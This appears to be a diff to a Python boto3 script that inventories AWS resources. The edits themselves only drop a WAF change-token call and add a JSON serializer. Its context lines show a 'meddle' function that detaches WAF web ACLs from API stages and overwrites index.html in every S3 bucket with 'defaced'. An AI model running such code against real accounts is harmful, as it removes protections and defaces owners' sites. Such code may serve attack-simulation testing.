@@ -186,8 +186,6 @@ def meddle():
             if one["stages"][stage]["v2"]:
                 client("wafv2").disassociate_web_acl(ResourceArn=arn)
             if one["stages"][stage]["classic"]:
-                token = client("waf-regional").get_change_token()["ChangeToken"]
-                assert token
                 client("waf-regional").disassociate_web_acl(ResourceArn=arn)
     for bucket in client("s3").list_buckets()["Buckets"]:
         client("s3").put_object(Bucket=bucket["Name"], Key="index.html", Body=b"defaced", ContentType="text/html")
@@ -218,4 +216,11 @@ NOUNS = [
     log_groups,
     roles,
 ]
-json.dump({noun.__name__.replace("_", "-"): noun() for noun in NOUNS}, sys.stdout, indent=1, default=str)
+
+
+def plain(value):
+    """Match strings are bytes in boto3, times are datetimes."""
+    return value.decode() if isinstance(value, bytes) else str(value)
+
+
+json.dump({noun.__name__.replace("_", "-"): noun() for noun in NOUNS}, sys.stdout, indent=1, default=plain)
